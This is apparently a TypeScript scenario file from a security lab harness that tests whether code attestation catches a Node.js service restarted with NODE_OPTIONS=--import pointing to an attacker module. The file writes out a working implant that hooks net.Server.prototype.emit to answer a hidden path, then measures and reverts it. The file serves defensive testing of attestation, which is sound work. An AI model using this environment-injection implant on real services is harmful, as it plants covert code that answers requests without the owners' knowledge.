import { randomBytes } from 'node:crypto';
import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { callService } from '../../client/call.js';
import { login } from '../../client/login.js';
import { restartService } from '../../lab/restart.js';
import { ensureAttested, servicePart } from '../plant.js';
import { TARGET } from '../target.js';
import { judgeByData, type Scenario, type ScenarioContext } from '../types.js';

/** The path the injected module answers on, in front of the service's own routes. */
export const IMPLANT_PATH = '/__implant';

interface Injected {
  service: string;
  /** the pass-through the service had before (restored by revert) */
  env: Record<string, string>;
  dir: string;
  marker: string;
}

/**
 * A module Node loads before the service's program (`--import`): it answers IMPLANT_PATH itself on
 * any HTTP or HTTPS server of the process, and notes that it ran. The service's code folder and
 * its copy are untouched: only the launch differs.
 */
function implantSource(marker: string, ranFile: string): string {
  return `import { writeFileSync } from 'node:fs';
import net from 'node:net';
writeFileSync(${JSON.stringify(ranFile)}, String(process.pid));
const emit = net.Server.prototype.emit;
net.Server.prototype.emit = function (event, req, res) {
  if (event === 'request' && typeof req?.url === 'string' && req.url.startsWith(${JSON.stringify(IMPLANT_PATH)})) {
    res.writeHead(200, { 'content-type': 'application/json' });
    res.end(JSON.stringify({ implant: ${JSON.stringify(marker)}, pid: process.pid }));
    return true;
  }
  return emit.apply(this, arguments);
};
`;
}

export const envInjection: Scenario = {
  id: 'attestation.env-injection',
  title: 'Code loaded into a service through its environment (NODE_OPTIONS=--import), its code untouched',
  paperAttack: 4,
  technique: 'T1574.006',
  description:
    "An attacker who can run the lab's CLI (the path `lab up --part-env NODE_OPTIONS` gives every part; here one service, restarted by the lab's own restart with a changed pass-through) gets the customers service started with NODE_OPTIONS=--import=<a module of the attacker's>. The module answers a path of its own in front of the service's routes; the service's code folder and code copy are byte for byte the registered ones. The attacker then asks for that path through the gateway. In none nothing is attested; in paper the service hashes its own code, which did not change, and reports it; in trusted the runtime attests the code with the launch manifest it recorded (interpreter, argv, environment, config), which now holds NODE_OPTIONS, so the service is untrusted and the gateway refuses it. Revert restarts the service with the environment it had.",
  evidence:
    "The answer the attacker got through the gateway on the implant's path (succeeded when it carries the implant's one-time mark), and whether the module ran in the service's process at all (a file it writes as it loads).",
  expected: { none: 'succeeded', paper: 'succeeded', trusted: 'blocked' },
  onlyOn: {
    runtimes: ['process'],
    why: "a container's environment is its image's and the lab's Env, which no CLI pass-through reaches (lab up --part-env is ignored on Docker); measuring a container's config is issue 14, item 3",
  },

  async setup(ctx) {
    const part = servicePart(ctx, TARGET.service);
    const dir = await mkdtemp(join(tmpdir(), 'tms-inject-'));
    const injected: Injected = {
      service: TARGET.service,
      env: part.env ?? {},
      dir,
      marker: randomBytes(12).toString('hex'),
    };
    ctx.scratch.injected = injected;
    const implant = join(dir, 'implant.mjs');
    await writeFile(implant, implantSource(injected.marker, join(dir, 'ran')), { mode: 0o644 });
    await restartService(ctx.lab, TARGET.service, {
      env: { ...injected.env, NODE_OPTIONS: `--import=${implant}` },
    });
  },

  async detonate(ctx) {
    const injected = ctx.scratch.injected as Injected;
    const ran = await readFile(join(injected.dir, 'ran'), 'utf8').catch(() => undefined);
    ctx.evidence.attempts.push({
      action: "the injected module loads in the service's process",
      target: `NODE_OPTIONS=--import=${join(injected.dir, 'implant.mjs')}`,
      gotData: false,
      note: ran === undefined ? 'it did not run' : `it ran in pid ${ran.trim()}`,
    });
    const { session } = await login(
      ctx.lab,
      ctx.attacker.name,
      ctx.attacker.password,
      ctx.attacker.privateKey,
    );
    const res = await callService(session, {
      gatewayUrl: ctx.lab.gatewayUrl,
      service: injected.service,
      path: IMPLANT_PATH,
    });
    const body = res.body as { implant?: unknown; code?: unknown } | null;
    ctx.evidence.attempts.push({
      action: 'the attacker asks the injected module for its mark through the gateway',
      target: `GET ${ctx.lab.gatewayUrl}/svc/${injected.service}${IMPLANT_PATH}`,
      status: res.status,
      ...(typeof body?.code === 'string' ? { code: body.code } : {}),
      gotData: body?.implant === injected.marker,
    });
    ctx.evidence.measurements = { implantLoaded: ran === undefined ? 0 : 1 };
  },

  judge: judgeByData,

  async revert(ctx: ScenarioContext) {
    const injected = ctx.scratch.injected as Injected | undefined;
    if (injected === undefined) return;
    await restartService(ctx.lab, injected.service, { env: injected.env });
    await rm(injected.dir, { recursive: true, force: true });
    await ensureAttested(ctx, injected.service);
    ctx.scratch.injected = undefined;
  },
};
